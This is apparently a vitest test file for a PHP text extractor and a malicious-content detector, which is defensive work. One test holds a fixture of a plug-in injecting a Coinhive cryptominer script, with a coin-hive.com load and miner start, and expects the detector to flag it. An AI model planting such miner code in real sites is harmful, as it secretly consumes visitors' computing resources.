import { expect, it } from 'vitest'
import { judgedHtml } from '../tell/tell.fixture.js'
import { readPhp } from './read-php.js'

it('joins the texts of a program with what is added to them', () => {
  const source = `<p>a</p><?php /* "not this" */ echo 'new X("' . esc($key) . '", {n: '.$n.'})'; // 'nor this'\n$b = 'other text here'; ?><p>b</p>`
  expect(readPhp(source)).toEqual({
    page: '<p>a</p> <p>b</p>',
    texts: ['new X("0", {n: 0})', 'other text here'],
    scripts: [],
  })
})

it('finds the miner that a plug-in writes', () => {
  const source = `<?php add('https://coin-hive.com/lib/x.min.js'); add_inline('var m = new CoinHive.Anonymous("' . $key . '");m.start();');`
  expect(judgedHtml(source).verdict).toBe('probable')
})

it('ends on texts that do not end', () => {
  expect(readPhp('<?php $a = "no end').texts).toEqual([])
  expect(readPhp('<?php /* no end').texts).toEqual([])
})
